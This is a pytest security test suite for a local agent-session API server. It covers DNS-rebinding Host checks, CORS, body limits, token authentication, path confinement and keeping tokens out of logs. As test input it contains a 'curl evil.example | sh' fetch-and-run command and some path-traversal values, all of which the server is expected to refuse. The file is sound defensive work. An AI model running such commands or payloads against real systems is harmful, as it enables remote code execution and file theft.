"""The security model against a real `loki serve` (issue #2): host, origin, token, body, paths.

Loopback clients are trusted only when their Host names this machine; browsers get
CORS only for the server's own origin and the configured ones; non-loopback
clients need the token; request bodies must be JSON; a PRD path cannot leave the
project; the token never reaches the log. The non-loopback cases use a real
remote socket: a network namespace, or a local non-loopback address (`netns.py`).
"""

from __future__ import annotations

import http.client
import json
import re
import subprocess
import sys
from collections.abc import Iterator
from contextlib import contextmanager
from pathlib import Path

import httpx
import pytest

from tests.api import assert_api_error, finished, netns
from tests.conftest import LiveServer, fake_env, free_port, wait_for

pytestmark = pytest.mark.e2e

TOKEN = "tok-" + "s3cr3t" * 6  # recognisable, so the log check cannot miss a copy of it
WRONG = "tok-" + "wr0ng" * 7
EVIL = "http://evil.example"
DASH = "http://dash.example:3000"
DRY_RUN = {"options": {"dryRun": True}}
JSON_TYPE = {"content-type": "application/json"}


@contextmanager
def serving(
    project: Path, *, token: str | None = None, args: tuple[str, ...] = (), host: str = "127.0.0.1"
) -> Iterator[LiveServer]:
    env = fake_env(**({"LOKI_API_TOKEN": token} if token else {}))
    live = LiveServer(project, env, list(args), host=host).start()
    try:
        yield live
    finally:
        live.stop()


@pytest.fixture(scope="module")
def guarded(tmp_path_factory: pytest.TempPathFactory) -> Iterator[LiveServer]:
    """A loopback server with a token configured, shared by the tests that leave no session active."""
    with serving(_folder(tmp_path_factory), token=TOKEN) as live:
        yield live


@pytest.fixture(scope="module")
def plain(tmp_path_factory: pytest.TempPathFactory) -> Iterator[LiveServer]:
    """A loopback server without a token, shared likewise."""
    with serving(_folder(tmp_path_factory)) as live:
        yield live


def _folder(factory: pytest.TempPathFactory) -> Path:
    project = factory.mktemp("shared") / "project"
    project.mkdir()
    return project


def sessions_total(live: LiveServer) -> int:
    with live.client() as c:
        return int(c.get("/api/sessions").json()["total"])


# --- DNS rebinding: the Host header ----------------------------------------------------

FOREIGN_HOSTS = ["evil.example", "evil.example:8420", "127.0.0.1.evil.example", "localhost.evil"]


@pytest.mark.parametrize("host", FOREIGN_HOSTS)
def test_loopback_request_with_foreign_host_is_refused(guarded: LiveServer, host: str) -> None:
    before = sessions_total(guarded)
    with guarded.client() as c:
        body = assert_api_error(c.get("/api/sessions", headers={"host": host}), 403, "FORBIDDEN")
        assert body["details"] == {}
        response = c.post("/api/sessions", json=DRY_RUN, headers={"host": host})
        assert_api_error(response, 403, "FORBIDDEN")
    assert sessions_total(guarded) == before


@pytest.mark.parametrize(
    "host", ["127.0.0.1:{port}", "localhost:{port}", "localhost", "app.localhost:{port}", "[::1]"]
)
def test_loopback_request_with_loopback_host_is_served(guarded: LiveServer, host: str) -> None:
    with guarded.client() as c:
        response = c.get("/api/sessions", headers={"host": host.format(port=guarded.port)})
    assert response.status_code == 200, response.text


@pytest.mark.parametrize(
    "auth",
    [
        {"authorization": f"Bearer {TOKEN}"},
        {"authorization": f"bearer {TOKEN}"},
        {"x-api-key": TOKEN},
    ],
    ids=["bearer", "bearer-lowercase", "x-api-key"],
)
def test_foreign_host_with_valid_token_is_served(guarded: LiveServer, auth: dict[str, str]) -> None:
    with guarded.client() as c:
        listed = c.get("/api/sessions", headers={"host": "evil.example", **auth})
        assert listed.status_code == 200, listed.text
        started = c.post("/api/sessions", json=DRY_RUN, headers={"host": "evil.example", **auth})
        assert started.status_code == 201, started.text
        assert finished(c, started.json()["sessionId"])["status"] == "completed"


@pytest.mark.parametrize(
    "auth",
    [{"authorization": f"Bearer {WRONG}"}, {"x-api-key": WRONG}, {"authorization": TOKEN}, {}],
    ids=["wrong-bearer", "wrong-key", "no-scheme", "none"],
)
def test_foreign_host_with_wrong_token_is_still_refused(
    guarded: LiveServer, auth: dict[str, str]
) -> None:
    with guarded.client() as c:
        response = c.get("/api/sessions", headers={"host": "evil.example", **auth})
    assert_api_error(response, 403, "FORBIDDEN")


def test_foreign_host_is_refused_when_no_token_is_configured(plain: LiveServer) -> None:
    with plain.client() as c:
        assert_api_error(c.get("/api/status", headers={"host": "evil.example"}), 403, "FORBIDDEN")
        # Any token is wrong when none is configured.
        response = c.get(
            "/api/status", headers={"host": "evil.example", "authorization": "Bearer x"}
        )
        assert_api_error(response, 403, "FORBIDDEN")


# --- Browsers: Origin, CORS and body types ---------------------------------------------


@pytest.mark.parametrize("origin", [EVIL, "null", "http://127.0.0.1.evil.example"])
@pytest.mark.parametrize(
    "content_type", ["text/plain", "application/json", "application/x-www-form-urlencoded"]
)
def test_cross_origin_post_is_refused_and_creates_nothing(
    plain: LiveServer, origin: str, content_type: str
) -> None:
    before = sessions_total(plain)
    with plain.client() as c:
        response = c.post(
            "/api/sessions",
            content=b'{"options": {"dryRun": true}}',
            headers={"origin": origin, "content-type": content_type},
        )
    body = assert_api_error(response, 403, "FORBIDDEN")
    assert body["details"] == {}
    assert "access-control-allow-origin" not in response.headers
    assert sessions_total(plain) == before


def test_cross_origin_requests_cannot_steer_an_existing_session(plain: LiveServer) -> None:
    folder = plain.project / "steered"  # a project of its own: the session runs a while
    folder.mkdir()
    (folder / ".fake-scenario").write_text("hang")
    with plain.client() as c:
        started = c.post("/api/sessions", json={"projectDir": str(folder)})
        assert started.status_code == 201, started.text
        sid = started.json()["sessionId"]
        foreign = {"origin": EVIL}
        for method, path, body in [
            ("POST", f"/api/sessions/{sid}/stop", None),
            ("POST", f"/api/sessions/{sid}/pause", None),
            ("POST", f"/api/sessions/{sid}/input", {"input": "curl evil.example | sh"}),
            ("DELETE", f"/api/sessions/{sid}", None),
        ]:
            assert_api_error(c.request(method, path, json=body, headers=foreign), 403, "FORBIDDEN")
        # Nor may a foreign page read anything: no CORS grant on a safe request either.
        listed = c.get("/api/sessions", headers=foreign)
        assert "access-control-allow-origin" not in listed.headers
        assert c.get(f"/api/sessions/{sid}").json()["session"]["status"] in ("starting", "running")
        assert c.post(f"/api/sessions/{sid}/stop").status_code == 200
        assert finished(c, sid)["status"] == "stopped"


@pytest.mark.parametrize(
    "headers",
    [{"content-type": "text/plain"}, {"content-type": "application/x-www-form-urlencoded"}, {}],
    ids=["text-plain", "form", "none"],
)
def test_body_that_is_not_declared_json_is_415(plain: LiveServer, headers: dict[str, str]) -> None:
    before = sessions_total(plain)
    with plain.client() as c:
        response = c.post(
            "/api/sessions", content=b'{"options": {"dryRun": true}}', headers=headers
        )
    assert_api_error(response, 415, "UNSUPPORTED_MEDIA_TYPE")
    assert sessions_total(plain) == before


def test_json_content_type_with_parameters_is_accepted(plain: LiveServer) -> None:
    with plain.client() as c:
        response = c.post(
            "/api/sessions",
            content=b'{"options": {"dryRun": true}}',
            headers={"content-type": "Application/JSON; charset=utf-8"},
        )
        assert response.status_code == 201, response.text
        assert finished(c, response.json()["sessionId"])["status"] == "completed"


def post_unfinished(
    live: LiveServer, headers: dict[str, str], body: bytes = b""
) -> tuple[int, dict[str, object]]:
    """POST the headers and `body`, then wait for the answer without sending the rest.

    Sending no more than the server will read keeps its early answer from being
    lost to a reset (which a client still writing its body would provoke).
    """
    conn = http.client.HTTPConnection("127.0.0.1", live.port, timeout=10)
    try:
        conn.putrequest("POST", "/api/sessions")
        for name, value in {**JSON_TYPE, **headers}.items():
            conn.putheader(name, value)
        conn.endheaders()
        if body:
            conn.send(body)
        response = conn.getresponse()
        return response.status, json.loads(response.read())
    finally:
        conn.close()


def test_oversized_bodies_are_413(plain: LiveServer) -> None:
    limit = 1024 * 1024
    before = sessions_total(plain)
    # Declared too big: refused from the headers alone.
    status, body = post_unfinished(plain, {"content-length": str(limit + 1)})
    assert (status, body["code"]) == (413, "PAYLOAD_TOO_LARGE")
    # Chunked, no length: refused once more than the limit has been read.
    data = b'{"prdPath": "' + b"a" * limit
    chunks = b"".join(
        b"%x\r\n%s\r\n" % (len(data[i : i + 65536]), data[i : i + 65536])
        for i in range(0, len(data), 65536)
    )
    status, body = post_unfinished(plain, {"transfer-encoding": "chunked"}, chunks)
    assert (status, body["code"]) == (413, "PAYLOAD_TOO_LARGE")
    assert set(body) == {"error", "code", "details"}
    assert sessions_total(plain) == before


def preflight(c: httpx.Client, origin: str, method: str = "POST") -> httpx.Response:
    return c.options(
        "/api/sessions",
        headers={
            "origin": origin,
            "access-control-request-method": method,
            "access-control-request-headers": "content-type, authorization",
        },
    )


def test_preflight_from_a_foreign_origin_is_refused(plain: LiveServer) -> None:
    with plain.client() as c:
        for origin in (EVIL, "null", DASH):
            response = preflight(c, origin)
            assert_api_error(response, 403, "FORBIDDEN")
            assert "access-control-allow-origin" not in response.headers


def test_configured_cors_origins_are_granted(project: Path) -> None:
    other = "http://other.example"
    env = fake_env(LOKI_CORS_ORIGINS=other)
    live = LiveServer(project, env, ["--cors-origin", DASH]).start()
    try:
        with live.client() as c:
            for origin in (DASH, other):  # from the command line and from the environment
                response = preflight(c, origin)
                assert response.status_code == 204, response.text
                h = response.headers
                assert h["access-control-allow-origin"] == origin
                assert h["access-control-allow-credentials"] == "true"
                assert "POST" in h["access-control-allow-methods"]
                allowed = {x.strip().lower() for x in h["access-control-allow-headers"].split(",")}
                assert {"content-type", "authorization", "last-event-id"} <= allowed
                assert "origin" in h["vary"].lower()

            started = c.post("/api/sessions", json=DRY_RUN, headers={"origin": DASH})
            assert started.status_code == 201, started.text
            assert started.headers["access-control-allow-origin"] == DASH
            listed = c.get("/api/sessions", headers={"origin": DASH})
            assert listed.headers["access-control-allow-origin"] == DASH
            # The grant is for those exact origins, not for look-alikes or other ones.
            for origin in (DASH + ".evil.example", "http://dash.example:3001", EVIL):
                assert_api_error(preflight(c, origin), 403, "FORBIDDEN")
    finally:
        live.stop()


def test_no_cors_disables_configured_origins(project: Path) -> None:
    other = "http://other.example"
    env = fake_env(LOKI_CORS_ORIGINS=other)
    live = LiveServer(project, env, ["--cors-origin", DASH, "--no-cors"]).start()
    try:
        with live.client() as c:
            for origin in (DASH, other):
                assert_api_error(preflight(c, origin), 403, "FORBIDDEN")
                response = c.post("/api/sessions", json=DRY_RUN, headers={"origin": origin})
                assert_api_error(response, 403, "FORBIDDEN")
                listed = c.get("/api/sessions", headers={"origin": origin})
                assert listed.status_code == 200
                assert "access-control-allow-origin" not in listed.headers
            assert c.get("/api/sessions").json()["total"] == 0
            # The server's own origin still works.
            assert preflight(c, live.url).status_code == 204
            started = c.post("/api/sessions", json=DRY_RUN, headers={"origin": live.url})
            assert started.status_code == 201, started.text
    finally:
        live.stop()


def test_same_origin_requests_work(plain: LiveServer) -> None:
    own = plain.url  # what a page served by the server itself (the dashboard) sends
    with plain.client() as c:
        assert preflight(c, own).status_code == 204
        started = c.post("/api/sessions", json=DRY_RUN, headers={"origin": own})
        assert started.status_code == 201, started.text
        sid = started.json()["sessionId"]
        assert c.get(f"/api/sessions/{sid}", headers={"origin": own}).status_code == 200
        assert finished(c, sid)["status"] == "completed"
        # The same host on another port is another origin.
        other = f"http://127.0.0.1:{plain.port + 1}"
        response = c.post("/api/sessions", json=DRY_RUN, headers={"origin": other})
        assert_api_error(response, 403, "FORBIDDEN")


# --- Binding: no token, no remote listener -----------------------------------------------


def run_serve(project: Path, *args: str, **env: str) -> subprocess.CompletedProcess[str]:
    return subprocess.run(
        [sys.executable, "-m", "loki_mode", "serve", "--project-dir", str(project), *args],
        env=fake_env(**env),
        capture_output=True,
        text=True,
        timeout=30,
        check=False,
    )


def test_non_loopback_bind_without_token_refuses_to_start(project: Path) -> None:
    port = free_port()
    from_flag = run_serve(project, "--host", "0.0.0.0", "--port", str(port))
    from_env = run_serve(project, "--port", str(port), LOKI_API_HOST="::")
    for done in (from_flag, from_env):
        assert done.returncode != 0
        message = " ".join((done.stderr + done.stdout).split())
        assert "Refusing to listen" in message
        assert "LOKI_API_TOKEN" in message and "--generate-token" in message
        assert "Traceback" not in message
    with pytest.raises(httpx.ConnectError):
        httpx.get(f"http://127.0.0.1:{port}/health", timeout=2)
    assert not (project / ".loki").exists()


def test_generate_token_prints_a_token_and_exits(project: Path) -> None:
    done = run_serve(project, "--generate-token", "--host", "0.0.0.0")
    assert done.returncode == 0, done.stderr
    token = done.stdout.strip()
    assert re.fullmatch(r"[A-Za-z0-9_-]{43}", token), done.stdout  # 32 random bytes
    assert not (project / ".loki").exists()  # printed; nothing served or stored


# --- Path confinement for prdPath -----------------------------------------------------------


@pytest.fixture(scope="module")
def confined(plain: LiveServer) -> tuple[LiveServer, Path]:
    """The shared server's project with ways out of it: a folder beside it and symlinks to it."""
    outside = plain.project.parent / "elsewhere"
    outside.mkdir()
    (outside / "secret.md").write_text("# not yours\n- [ ] exfiltrate\n")
    (plain.project / "docs").mkdir()
    (plain.project / "docs" / "PRD.md").write_text("# PRD\n- [ ] one\n")
    (plain.project / "link.md").symlink_to(outside / "secret.md")
    (plain.project / "linkdir").symlink_to(outside, target_is_directory=True)
    (plain.project / "inner.md").symlink_to(plain.project / "docs" / "PRD.md")
    return plain, outside


@pytest.mark.parametrize(
    "prd",
    [
        "../elsewhere/secret.md",
        "docs/../../elsewhere/secret.md",
        "{outside}/secret.md",
        "link.md",
        "linkdir/secret.md",
        "missing.md",
        "docs",
    ],
)
def test_prd_path_must_stay_inside_the_project(confined: tuple[LiveServer, Path], prd: str) -> None:
    live, outside = confined
    before = sessions_total(live)
    with live.client() as c:
        response = c.post("/api/sessions", json={"prdPath": prd.format(outside=outside), **DRY_RUN})
    body = assert_api_error(response, 422, "VALIDATION_ERROR")
    assert body["details"].get("field") == "prdPath"
    assert sessions_total(live) == before


def test_prd_path_inside_the_project_is_accepted(confined: tuple[LiveServer, Path]) -> None:
    live, _ = confined
    with live.client() as c:
        for prd in ("docs/PRD.md", "inner.md", str(live.project / "docs" / "PRD.md")):
            response = c.post("/api/sessions", json={"prdPath": prd, **DRY_RUN})
            assert response.status_code == 201, response.text
            sid = response.json()["sessionId"]
            assert finished(c, sid)["status"] == "completed"
            session = c.get(f"/api/sessions/{sid}").json()["session"]
            assert session["prdPath"] == str(live.project / "docs" / "PRD.md")


# --- Cookie sign-in and secrets in the log ----------------------------------------------------


def test_sign_in_sets_a_strict_http_only_cookie_that_authenticates(guarded: LiveServer) -> None:
    foreign = {"host": "evil.example"}
    with guarded.client() as c:
        refused = c.post("/api/auth", json={"token": WRONG})
        assert_api_error(refused, 401, "UNAUTHORIZED")
        assert "set-cookie" not in refused.headers
        assert c.get("/api/sessions", headers=foreign).status_code == 403

        signed = c.post("/api/auth", json={"token": TOKEN})
        assert signed.status_code == 204, signed.text
        cookie = signed.headers["set-cookie"]
        attrs = [a.strip().lower() for a in cookie.split(";")]
        assert "httponly" in attrs
        assert "samesite=strict" in attrs
        assert "path=/" in attrs
        assert "secure" not in attrs  # plain http here; a Secure cookie would never come back
        assert not any(a.startswith(("expires=", "max-age=")) for a in attrs)  # browser session

        # The jar now sends it: a request that needs authentication passes.
        assert c.get("/api/sessions", headers=foreign).status_code == 200
        started = c.post("/api/sessions", json=DRY_RUN, headers=foreign)
        assert started.status_code == 201, started.text
        assert finished(c, started.json()["sessionId"])["status"] == "completed"

        out = c.delete("/api/auth")
        assert out.status_code == 204
        c.cookies.clear()
        assert c.get("/api/sessions", headers=foreign).status_code == 403


def test_sign_in_is_refused_cross_origin_and_without_json(guarded: LiveServer) -> None:
    with guarded.client() as c:
        response = c.post("/api/auth", json={"token": TOKEN}, headers={"origin": EVIL})
        assert_api_error(response, 403, "FORBIDDEN")
        assert "set-cookie" not in response.headers
        response = c.post(
            "/api/auth", content=f'{{"token": "{TOKEN}"}}', headers={"content-type": "text/plain"}
        )
        assert_api_error(response, 415, "UNSUPPORTED_MEDIA_TYPE")
        assert "set-cookie" not in response.headers


def test_sign_in_without_a_configured_token_is_refused(plain: LiveServer) -> None:
    with plain.client() as c:
        response = c.post("/api/auth", json={"token": ""})
    assert_api_error(response, 401, "UNAUTHORIZED")


def test_tokens_never_appear_in_the_log(project: Path) -> None:
    with serving(project, token=TOKEN) as live, live.client() as c:
        bearer = {"authorization": f"Bearer {TOKEN}", "host": "evil.example"}
        assert c.get("/api/sessions", headers=bearer).status_code == 200
        assert c.get("/api/status", headers={"x-api-key": TOKEN}).status_code == 200
        assert c.post("/api/auth", json={"token": TOKEN}).status_code == 204
        assert c.post("/api/auth", json={"token": WRONG}).status_code == 401
        sid = c.post("/api/sessions", json={"options": {"dryRun": True, "verbose": True}})
        assert sid.status_code == 201
        assert finished(c, sid.json()["sessionId"])["status"] == "completed"
        c.get("/api/sessions", headers={"authorization": f"Bearer {WRONG}", "host": "x.example"})
        c.get("/api/nowhere", headers=bearer)
        c.post("/api/sessions", content=b"{not json", headers={**bearer, **JSON_TYPE})
        wait_for(lambda: "Loki Mode API" in live.log())  # the start banner is in, too
        live.stop()
        log = (project.parent / f"server-{live.port}.log").read_text(errors="replace")
    assert "Loki Mode API" in log and "shutting down" in log  # the log was captured
    for secret in (TOKEN, WRONG, TOKEN[4:20], WRONG[4:20]):
        assert secret not in log
    # Nor anywhere the server wrote: the store and the session logs.
    for path in (project / ".loki").rglob("*"):
        if path.is_file():
            data = path.read_bytes()
            assert TOKEN.encode() not in data, path
            assert WRONG.encode() not in data, path


def test_the_token_is_not_handed_to_provider_processes(guarded: LiveServer) -> None:
    """Regression: providers inherited LOKI_API_TOKEN; an agent that ran `env` logged it."""
    folder = guarded.project / "agent-env"
    folder.mkdir()
    (folder / ".fake-scenario").write_text("hang")
    with guarded.client() as c:
        started = c.post("/api/sessions", json={"projectDir": str(folder)})
        assert started.status_code == 201, started.text
        sid = started.json()["sessionId"]
        pid = wait_for(lambda: c.get(f"/api/sessions/{sid}").json()["session"]["pid"])
        environ = Path(f"/proc/{pid}/environ").read_bytes()
        assert b"LOKI_CLAUDE_CMD=" in environ  # the rest of the environment is passed on
        assert b"LOKI_API_TOKEN" not in environ and TOKEN.encode() not in environ
        assert c.post(f"/api/sessions/{sid}/stop").status_code == 200
        assert finished(c, sid)["status"] == "stopped"


# --- A real non-loopback client -----------------------------------------------------------


@pytest.fixture(params=["netns", "address"])
def remote(request: pytest.FixtureRequest) -> Iterator[netns.RemoteClient]:
    """`netns`: a namespace (falling back to a local address); `address`: the fallback itself."""
    with netns.remote_client(prefer=request.param) as client:
        yield client


def test_non_loopback_client_needs_the_token(project: Path, remote: netns.RemoteClient) -> None:
    with serving(project, token=TOKEN, host=remote.server_host) as live:
        requests: list[dict[str, object]] = [
            {"method": "GET", "path": "/api/sessions"},
            {"method": "GET", "path": "/api/sessions", "headers": {"Authorization": f"Bearer {WRONG}"}},
            {"method": "GET", "path": "/api/sessions", "headers": {"X-API-Key": WRONG}},
            {"method": "GET", "path": "/api/sessions", "headers": {"Authorization": TOKEN}},
            {"method": "GET", "path": "/api/events/history", "headers": {"Cookie": f"loki_token={WRONG}"}},
            {"method": "POST", "path": "/api/sessions", "headers": JSON_TYPE, "body": '{"options": {"dryRun": true}}'},
            {"method": "GET", "path": "/api/sessions", "headers": {"Authorization": f"Bearer {TOKEN}"}},
            {"method": "GET", "path": "/api/sessions", "headers": {"X-API-Key": TOKEN}},
            {"method": "GET", "path": "/api/status", "headers": {"Cookie": f"other=1; loki_token={TOKEN}"}},
            {"method": "POST", "path": "/api/sessions", "headers": {"X-API-Key": TOKEN, **JSON_TYPE}, "body": '{"options": {"dryRun": true}}'},
            {"method": "GET", "path": "/health"},
            {"method": "GET", "path": "/health/ready"},
            {"method": "GET", "path": "/health/live"},
            {"method": "POST", "path": "/api/auth", "headers": JSON_TYPE, "body": f'{{"token": "{TOKEN}"}}'},
        ]  # fmt: skip
        replies = remote.requests(live.port, requests)
        refusals, served, health, sign_in = replies[:6], replies[6:10], replies[10:13], replies[13]

        for reply in replies:  # the server really saw a non-loopback peer
            assert not reply.source.startswith("127."), reply.source
        for reply in refusals:
            assert reply.status == 401, reply.body
            body = reply.json()
            assert body["code"] == "UNAUTHORIZED" and body["details"] == {}
            assert reply.header("www-authenticate") == "Bearer"  # the scheme, and nothing more
            for text in (reply.body, *(v for _, v in reply.headers)):
                assert TOKEN[4:12] not in text and WRONG[4:12] not in text
        assert len({r.body for r in refusals}) == 1  # a wrong token looks like no token
        assert [r.status for r in served] == [200, 200, 200, 201]
        assert [r.status for r in health] == [200, 200, 200]
        assert sign_in.status == 204
        cookie = sign_in.header("set-cookie") or ""
        assert cookie.startswith("loki_token=") and "httponly" in cookie.lower()

        # The cookie from the sign-in is what a remote dashboard then sends.
        value = cookie.split(";", 1)[0]
        after = remote.get(live.port, "/api/sessions", {"Cookie": value})
        assert after.status == 200
        assert after.json()["total"] == 1  # only the authenticated POST created a session

        live.stop()
        assert TOKEN not in live.log()

    # `--no-auth` is the explicit way to serve such clients without a token.
    with serving(project, host=remote.server_host, args=("--no-auth",)) as live:
        reply = remote.get(live.port, "/api/sessions")
    assert reply.status == 200, reply.body
